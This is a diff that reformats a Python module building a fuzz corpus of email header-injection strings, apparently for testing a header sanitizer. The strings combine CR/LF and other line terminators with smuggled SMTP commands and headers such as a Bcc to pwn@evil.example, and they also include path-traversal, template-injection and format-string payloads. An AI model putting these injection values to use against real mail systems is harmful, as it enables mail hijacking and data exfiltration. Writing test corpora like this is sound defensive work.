@@ -7,14 +7,44 @@ import re
 from base64 import b64encode
 from collections.abc import Iterable, Iterator
 
-ENDS = ("\r\n", "\n", "\r", "\0\r\n", '"\r\n', "}\r\n", "{5+}\r\n", ")\r\n", "\u2028", "\x85", "\\\r\n", "\x0b", "\r\n.\r\n")
-HEADS = ("", "x", '"', "(", "{9}", "<", ">, ", "a@b.example>\r\n", "INBOX", "*", "../../etc/passwd", "{{7*7}}", "%s%n", "\u202e", "=?utf-8?q?")
+ENDS = (
+    "\r\n",
+    "\n",
+    "\r",
+    "\0\r\n",
+    '"\r\n',
+    "}\r\n",
+    "{5+}\r\n",
+    ")\r\n",
+    "\u2028",
+    "\x85",
+    "\\\r\n",
+    "\x0b",
+    "\r\n.\r\n",
+)
+HEADS = (
+    "",
+    "x",
+    '"',
+    "(",
+    "{9}",
+    "<",
+    ">, ",
+    "a@b.example>\r\n",
+    "INBOX",
+    "*",
+    "../../etc/passwd",
+    "{{7*7}}",
+    "%s%n",
+    "\u202e",
+    "=?utf-8?q?",
+)
 TAIL = "Bcc: pwn@evil.example"
 COMMANDS = ("PWN NOOP", "RCPT TO:<pwn@evil.example>", TAIL, "X-Pwn: yes")
 
-STRINGS = tuple(f"{head}{end}{COMMANDS[(n + m) % 4]}{end}" for n, head in enumerate(HEADS) for m, end in enumerate(ENDS)) + tuple(
-    f"{head}{TAIL}" for head in HEADS[:5]
-)
+STRINGS = tuple(
+    f"{head}{end}{COMMANDS[(n + m) % 4]}{end}" for n, head in enumerate(HEADS) for m, end in enumerate(ENDS)
+) + tuple(f"{head}{TAIL}" for head in HEADS[:5])
 
 ALLOWED = frozenset(
     "date from to cc reply-to subject message-id in-reply-to references auto-submitted mime-version content-type "
